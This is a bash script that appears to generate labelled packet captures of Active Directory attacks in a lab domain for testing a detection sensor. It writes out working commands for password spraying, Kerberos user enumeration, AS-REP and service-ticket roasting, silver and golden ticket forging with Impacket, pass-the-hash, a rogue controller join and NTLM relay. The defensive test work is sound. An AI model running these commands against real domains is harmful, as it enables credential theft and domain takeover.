#!/bin/bash
# Attacks on the accounts of a domain: names looked for, one password for many, tickets asked for to be guessed at home, tickets that were forged or got with a hash.
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
# shellcheck source=domain.sh
source "$RECORD_DIR/domain.sh"

DC=10.20.2.10
FILES=10.20.2.40
ATTACKER=10.20.1.66
USER_HOST=10.20.1.30
PEOPLE=(anna bert carla dirk els frank greet hugo inge jan karin luc)

# ward_domain: a controller with twelve users, a host of the attacker and one of a user; nothing is recorded yet.
ward_domain() {
    local user
    hospital clients servers
    host dc servers $DC
    host attacker clients $ATTACKER
    host desk clients $USER_HOST
    domain_on dc $DC "server max protocol = SMB2_10" "$@"
    for user in "${PEOPLE[@]}"; do
        domain_user "$user"
    done
}

# as_user HOST USER: a Kerberos ticket got with the right password, as at a logon in the morning.
as_user() {
    programs krb5-user
    shell "$1" "echo $USER_PASSWORD | KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/ccache-$1 kinit $2"
}

record_spray_smb() {
    begin spray-smb attack "One password is tried for twelve users of the domain over SMB (rpcclient); that of one user is right."
    ward_domain
    domain_samba_tool user setpassword karin --newpassword=Winter-2026
    domain_start
    domain_client attacker "client max protocol = SMB2_10"
    capture clients
    shell attacker "for user in ${PEOPLE[*]}; do rpcclient -s $SMB_CONF --use-kerberos=off -U $WORKGROUP/\$user%Winter-2026 $DC -c getusername; done"
    expect "{technique: T1110.003, actor: $ATTACKER, kind: password spraying, target: $DC}"
    contains "smb2.nt_status == 0xc000006d" -ge 11
    finish
}

record_spray_kerberos() {
    begin spray-kerberos attack "One password is tried for twelve users of the domain over Kerberos (kinit), in vain."
    ward_domain
    domain_start
    domain_client attacker
    programs krb5-user
    capture clients
    shell attacker "for user in ${PEOPLE[*]}; do echo Winter-2026 | KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/cc kinit \$user; done"
    expect "{technique: T1110.003, actor: $ATTACKER, kind: password spraying, target: $DC}"
    contains "kerberos.error_code == 24" -ge 12
    finish
}

record_enumerate_kerberos() {
    begin enumerate-kerberos attack "nmap asks the domain controller for twenty names of users over Kerberos; three of them exist."
    ward_domain
    domain_start
    programs nmap
    { seq -f 'user%g' 1 17; printf '%s\n' anna bert carla; } >"$WORK/names"
    capture clients
    run attacker nmap -n -Pn -p 88 --script krb5-enum-users --script-args "krb5-enum-users.realm=$REALM,userdb=$WORK/names" $DC
    expect "{technique: T1087.002, actor: $ATTACKER, kind: user enumeration, target: $DC}"
    contains "kerberos.error_code == 6" -ge 10
    contains "kerberos.error_code == 25" -ge 3
    finish
}

# mit_realm [etype...]: a realm of MIT's, to be filled by kadmin.local and served by krb5kdc; $with is their environment.
mit_realm() {
    programs krb5-kdc
    DC_ADDRESS=$DC
    krb5_conf "$@"
    cat >"$WORK/kdc.conf" <<END
[kdcdefaults]
kdc_listen = $DC:88
kdc_tcp_listen = $DC:88
[realms]
$REALM = {
    database_name = $WORK/principal
    key_stash_file = $WORK/stash
    acl_file = $WORK/acl
}
END
    with="env KRB5_CONFIG=$WORK/krb5.conf KRB5_KDC_PROFILE=$WORK/kdc.conf"
    in_host dc $with kdb5_util create -s -r $REALM -P "$ADMIN_PASSWORD" >>"$WORK/output" 2>&1 || fail "$CASE: no realm (see $WORK/output)"
}

record_cred_skeleton_key() {
    begin cred-skeleton-key attack "Three people log on with AES; then the controller has no AES keys for them any more, and they are made to use RC4, as after somebody put a skeleton key into a controller's memory."
    note "Nobody patched a controller: kadmin took the AES keys of the three accounts away, which looks the same on the wire."
    local user
    hospital clients servers
    host dc servers $DC
    host desk clients $USER_HOST
    mit_realm aes256-cts-hmac-sha1-96 arcfour-hmac
    for user in anna bert carla; do
        in_host dc $with kadmin.local -r $REALM -q "addprinc +requires_preauth -pw $USER_PASSWORD $user" >>"$WORK/output" 2>&1
    done
    service dc $with krb5kdc -n -r $REALM
    answering dc $DC 88
    capture clients
    for user in anna bert carla; do
        as_user desk $user
    done
    for user in anna bert carla; do
        write_down dc "kadmin.local -q 'cpw -e arcfour-hmac:normal -pw $USER_PASSWORD $user'"
        in_host dc $with kadmin.local -r $REALM -q "cpw -e arcfour-hmac:normal -pw $USER_PASSWORD $user" >>"$WORK/output" 2>&1
    done
    for user in anna bert carla; do
        as_user desk $user
    done
    expect "{technique: T1562.010, actor: $USER_HOST, what: logons that the controller talks down, target: $DC}"
    expect "{technique: T1556.001, actor: $DC, kind: controller without modern encryption, target: $DC}"
    contains "kerberos.msg_type == 11" -eq 6
    finish
}

record_ticket_forged_service() {
    begin ticket-forged-service attack "An attacker who has the key of a server's account forges a ticket for its files in an administrator's name (Impacket's ticketer, a silver ticket); the domain controller is never asked."
    ward_domain
    domain_start
    domain_client desk
    domain_client attacker
    local hash sid
    in_host dc samba-tool user getpassword '--filter=(sAMAccountName=DC1$)' --attributes=unicodePwd,objectSid -s "$DC_HOME/etc/smb.conf" >"$WORK/server" 2>>"$WORK/output" || true
    hash=$(sed -n 's/^unicodePwd:: //p' "$WORK/server" | base64 -d | xxd -p)
    sid=$(sed -n 's/^objectSid: //p' "$WORK/server" | sed 's/-[0-9]*$//')
    [[ -n $hash && -n $sid ]] || fail "$CASE: no key of the server (see $WORK/server)"
    impacket ticketer
    local ticketer=$IMPACKET
    impacket smbclient
    capture clients
    as_user desk anna
    in_domain desk smbclient -s "$WORK/client-desk/smb.conf" --use-kerberos=required -U anna //dc1.$DOMAIN/records -c ls
    shell attacker "cd $WORK && $PYTHON $ticketer -nthash $hash -domain-sid $sid -domain $DOMAIN -spn cifs/dc1.$DOMAIN Administrator"
    echo shares >"$WORK/do"
    shell attacker "cd $WORK && KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/Administrator.ccache $PYTHON $IMPACKET -k -no-pass -dc-ip $DC -target-ip $DC $DOMAIN/Administrator@dc1.$DOMAIN -file $WORK/do"
    expect "{technique: T1558.002, actor: $ATTACKER, kind: ticket that nobody gave out, target: $DC}"
    contains "kerberos.msg_type == 14" -ge 2
    finish
}

record_roast_asrep() {
    begin roast-asrep attack "Impacket's GetNPUsers asks an MIT KDC for tickets of six users without proving anything; two accounts allow that."
    local user
    hospital clients servers
    host dc servers $DC
    host attacker clients $ATTACKER
    programs python3-impacket
    mit_realm
    for user in anna bert carla dirk; do
        in_host dc $with kadmin.local -r $REALM -q "addprinc +requires_preauth -pw $USER_PASSWORD $user" >>"$WORK/output" 2>&1
    done
    for user in weak1 weak2; do
        in_host dc $with kadmin.local -r $REALM -q "addprinc -requires_preauth -pw $USER_PASSWORD $user" >>"$WORK/output" 2>&1
    done
    service dc $with krb5kdc -n -r $REALM
    answering dc $DC 88
    printf '%s\n' anna bert weak1 carla weak2 dirk >"$WORK/names"
    impacket GetNPUsers
    capture clients
    run attacker $PYTHON "$IMPACKET" -no-pass -usersfile "$WORK/names" -dc-ip $DC $DOMAIN/
    expect "{technique: T1558.004, actor: $ATTACKER, kind: tickets without proof, target: $DC}"
    contains "kerberos.msg_type == 11" -ge 2
    finish
}

record_roast_services() {
    begin roast-services attack "Impacket's GetUserSPNs asks for tickets of all eight services that run as users, with a user's password. This controller refuses the old checksum of its requests."
    local i
    ward_domain "ldap server require strong auth = no"
    for i in 1 2 3 4 5 6 7 8; do
        domain_samba_tool user create svc$i $USER_PASSWORD
        domain_samba_tool spn add "MSSQLSvc/sql$i.$DOMAIN:1433" svc$i
    done
    domain_start
    domain_client attacker
    impacket GetUserSPNs
    capture clients
    seq -f 'svc%g' 1 8 >"$WORK/names"
    run attacker $PYTHON "$IMPACKET" -request -usersfile "$WORK/names" -dc-ip $DC "$DOMAIN/anna:$USER_PASSWORD"
    expect "{technique: T1558.003, actor: $ATTACKER, kind: tickets for many services, target: $DC}"
    contains "kerberos.msg_type == 12" -ge 8
    finish
}

record_ticket_by_hash() {
    begin ticket-by-hash attack "An attacker who has the hash of a user's password, not the password, gets a Kerberos ticket with it (Impacket's getTGT); the domain speaks AES otherwise."
    ward_domain
    domain_start
    domain_client desk
    domain_client attacker
    local hash
    hash=$(printf %s "$USER_PASSWORD" | iconv -t UTF-16LE | openssl dgst -md4 -provider legacy -provider default | awk '{print $2}')
    impacket getTGT
    capture clients
    as_user desk anna
    shell attacker "cd $WORK && KRB5_CONFIG=$WORK/krb5.conf $PYTHON $IMPACKET -hashes :$hash -dc-ip $DC $DOMAIN/anna"
    expect "{technique: T1550.002, actor: $ATTACKER, kind: old encryption by a client, target: $DC}"
    contains "kerberos.msg_type == 11" -ge 2
    finish
}

record_ticket_forged() {
    begin ticket-forged attack "An attacker who has the krbtgt account's key forges a ticket of an administrator (Impacket's ticketer) and uses it; no such ticket was ever given out."
    ward_domain
    domain_start
    domain_client desk
    domain_client attacker
    local hash sid
    in_host dc samba-tool user getpassword krbtgt --attributes=unicodePwd,objectSid -s "$DC_HOME/etc/smb.conf" >"$WORK/krbtgt" 2>>"$WORK/output" || true
    hash=$(sed -n 's/^unicodePwd:: //p' "$WORK/krbtgt" | base64 -d | xxd -p)
    sid=$(sed -n 's/^objectSid: //p' "$WORK/krbtgt" | sed 's/-502$//')
    [[ -n $hash && -n $sid ]] || fail "$CASE: no key of krbtgt (see $WORK/krbtgt)"
    impacket ticketer
    local ticketer=$IMPACKET
    impacket smbclient
    capture clients
    as_user desk anna
    in_domain desk smbclient -s "$WORK/client-desk/smb.conf" --use-kerberos=required -U anna //dc1.$DOMAIN/records -c ls
    shell attacker "cd $WORK && $PYTHON $ticketer -nthash $hash -domain-sid $sid -domain $DOMAIN Administrator"
    echo shares >"$WORK/do"
    shell attacker "cd $WORK && KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/Administrator.ccache $PYTHON $IMPACKET -k -no-pass -dc-ip $DC -target-ip $DC $DOMAIN/Administrator@dc1.$DOMAIN -file $WORK/do"
    expect "{technique: T1558.001, actor: $ATTACKER, kind: ticket that nobody gave out, target: $DC}"
    contains "kerberos.msg_type == 12" -ge 2
    finish
}

record_pass_the_hash() {
    begin pass-the-hash attack "A user logs on and uses a share by Kerberos; then an attacker uses the hash of the same user's password by NTLM (Impacket's smbclient)."
    ward_domain
    domain_start
    domain_client desk "client max protocol = SMB2_10"
    domain_client attacker
    local hash
    hash=$(printf %s "$USER_PASSWORD" | iconv -t UTF-16LE | openssl dgst -md4 -provider legacy -provider default | awk '{print $2}')
    impacket smbclient
    capture clients
    as_user desk anna
    local i
    for i in 1 2 3; do
        in_domain desk smbclient -s "$WORK/client-desk/smb.conf" --use-kerberos=required -U anna //dc1.$DOMAIN/records -c ls
    done
    echo shares >"$WORK/do"
    run attacker $PYTHON "$IMPACKET" -hashes :$hash "$WORKGROUP/anna@$DC" -file "$WORK/do"
    expect "{technique: T1550.002, actor: $ATTACKER, kind: ntlm where kerberos is usual, target: $DC}"
    contains "ntlmssp.messagetype == 3" -ge 1
    finish
}

record_rogue_controller() {
    begin rogue-controller attack "Somebody with an administrator's password makes his own host a domain controller (samba-tool domain join), which gives him every password; the recording ends soon after the beginning."
    hospital clients servers
    host dc servers $DC
    host attacker clients $ATTACKER
    domain_on dc $DC
    domain_start
    domain_client attacker
    capture clients
    write_down attacker "samba-tool domain join $DOMAIN DC"
    in_host attacker env KRB5_CONFIG="$WORK/krb5.conf" timeout 120 samba-tool domain join $DOMAIN DC --dns-backend=NONE --domain-critical-only \
        -U "Administrator%$ADMIN_PASSWORD" --realm=$REALM --targetdir="$WORK/rogue" --option="netbios name=rogue" --option="interfaces=lo eth0" \
        --option="bind interfaces only=yes" >>"$WORK/output" 2>&1 || true
    capture_stop
    tcpdump -q -n -r "$PCAP" -c 320 -w "$WORK/begin.pcap" 2>/dev/null
    cp "$WORK/begin.pcap" "$PCAP"
    expect "{technique: T1207, actor: $ATTACKER, kind: changes to directory replication, target: $DC}"
    expect "{technique: T1003.006, actor: $ATTACKER, kind: directory replication, target: $DC}"
    contains "dcerpc.opnum == 17" -ge 1
    finish
}

# relay_ward: a file server, a user's host, the attacker's, and what ntlmrelayx needs to start.
relay_ward() {
    hospital clients servers
    host desk clients $USER_HOST
    host attacker clients $ATTACKER
    host files servers $FILES
    programs samba smbclient python3-impacket
    source "$RECORD_DIR/services.sh"
    smbd_on files $FILES
    useradd -M wardrelay 2>/dev/null || true
    printf '%s\n%s\n' ward-Secret-7 ward-Secret-7 | smbpasswd -L -s -a -c "$WORK/smb-files/smb.conf" wardrelay >>"$WORK/output" 2>&1 || true
    impacket ntlmrelayx
    mkdir -p "$WORK/stub/dsinternals" # ntlmrelayx imports this library for another attack; Debian has none
    sed -n 's/^from dsinternals\.\([a-zA-Z0-9.]*\) import \([A-Za-z0-9, ]*\)/\1 \2/p' /usr/lib/python3/dist-packages/impacket/examples/ntlmrelayx/attacks/ldapattack.py \
        | while read -r module names; do
            mkdir -p "$(dirname "$WORK/stub/dsinternals/${module//.//}")"
            for name in ${names//,/}; do echo "$name = None"; done >>"$WORK/stub/dsinternals/${module//.//}.py"
        done
}

# relaying OPTION...: ntlmrelayx passes logons on to the file server.
relaying() {
    service attacker bash -c "cd $WORK && sleep 120 | HOME=$WORK PYTHONPATH=$WORK/stub $PYTHON $IMPACKET -t smb://$FILES -smb2support --no-wcf-server --no-raw-server $* -c hostname"
}

record_relay_smb() {
    begin relay-smb attack "A user is lured to the attacker's host by SMB, which passes the logon on to a file server (Impacket's ntlmrelayx) and is let in there as that user."
    relay_ward
    relaying --no-http-server
    answering attacker $ATTACKER 445
    capture clients
    shell desk "smbclient -U WARD/wardrelay%ward-Secret-7 //$ATTACKER/share -c ls"
    sleep 3
    userdel -f wardrelay 2>/dev/null || true
    expect "{technique: T1557.001, actor: $ATTACKER, kind: relayed logon, target: $FILES}"
    contains "ntlmssp.messagetype == 3" -ge 2
    finish
}

record_relay_http() {
    begin relay-http attack "A user's program is lured to a web page of the attacker's host, which passes the logon on to a file server (Impacket's ntlmrelayx) and is let in there as that user."
    programs curl
    relay_ward
    relaying --no-smb-server
    answering attacker $ATTACKER 80
    capture clients
    shell desk "curl -s -m 5 --ntlm -u 'WARD/wardrelay:ward-Secret-7' http://$ATTACKER/"
    sleep 3
    userdel -f wardrelay 2>/dev/null || true
    expect "{technique: T1557.001, actor: $ATTACKER, kind: relayed logon, target: $FILES}"
    contains "ntlmssp.messagetype == 3" -ge 2
    finish
}

# stretched_to_a_day: the pauses of five seconds and more become half a day.
stretched_to_a_day() {
    capture_stop
    mv "$PCAP" "$WORK/live.pcap"
    programs python3-scapy
    echo "$ reshape.py stretch 4 9000 live.pcap input.pcap" >>"$WORK/commands"
    "$PYTHON" "$RECORD_DIR/reshape.py" stretch "$WORK/live.pcap" "$PCAP" 4 9000 2>>"$WORK/output" || fail "$CASE: not stretched (see $WORK/output)"
    note "Nobody waited half a day: record/reshape.py made pauses of five seconds and more 9000 times as long."
}

# three_logons HOST: so that a sensor knows that it sees this host's logons.
three_logons() {
    local user
    for user in anna bert carla; do
        as_user "$1" $user
    done
}

record_variant_ticket_ungiven() {
    begin variant-ticket-ungiven variant "An attacker who has the AES key of the krbtgt account forges a ticket in the name of a user who did not log on (Impacket's ticketer) and uses it, half a day after ordinary logons from the same host. Nothing but the missing logon tells it from a real one; this controller refuses it all the same, for what new tickets hold besides."
    ward_domain
    domain_samba_tool user setpassword krbtgt --newpassword=Ward-Krbtgt-7 # so that the key has number 2, as ticketer says
    domain_start
    domain_client desk
    local key sid
    in_host dc samba-tool domain exportkeytab "$WORK/keytab" --principal=krbtgt/$REALM -s "$DC_HOME/etc/smb.conf" >>"$WORK/output" 2>&1
    key=$(klist -K -e -k -t "$WORK/keytab" | sed -n 's/.*aes256.*(0x\([0-9a-f]*\)).*/\1/p' | head -1)
    in_host dc samba-tool user getpassword krbtgt --attributes=objectSid -s "$DC_HOME/etc/smb.conf" >"$WORK/krbtgt" 2>>"$WORK/output" || true
    sid=$(sed -n 's/^objectSid: //p' "$WORK/krbtgt" | sed 's/-502$//')
    [[ -n $key && -n $sid ]] || fail "$CASE: no key of krbtgt (see $WORK/output)"
    impacket ticketer
    local ticketer=$IMPACKET
    capture clients
    three_logons desk
    sleep 10.5
    shell desk "cd $WORK && $PYTHON $ticketer -aesKey $key -domain-sid $sid -domain $DOMAIN -user-id 500 Administrator"
    shell desk "KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/Administrator.ccache kvno cifs/dc1.$DOMAIN"
    stretched_to_a_day
    expect "{technique: T1558.001, actor: $USER_HOST, kind: ticket without a logon, target: $DC}"
    contains "kerberos.msg_type == 12" -ge 1
    finish
}

record_variant_kerberos_day() {
    begin variant-kerberos-day variant "Three users log on at a workstation; half a day later one of them logs on again and uses a share, and the ticket of another is renewed."
    ward_domain
    domain_start
    domain_client desk
    capture clients
    three_logons desk
    sleep 10.5
    as_user desk anna
    in_domain desk smbclient -s "$WORK/client-desk/smb.conf" --use-kerberos=required -U anna //dc1.$DOMAIN/records -c ls
    shell desk "KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/ccache-desk kinit -R; true"
    stretched_to_a_day
    near_miss identity.forged_ticket
    contains "kerberos.msg_type == 12" -ge 1
    finish
}

main "$@"
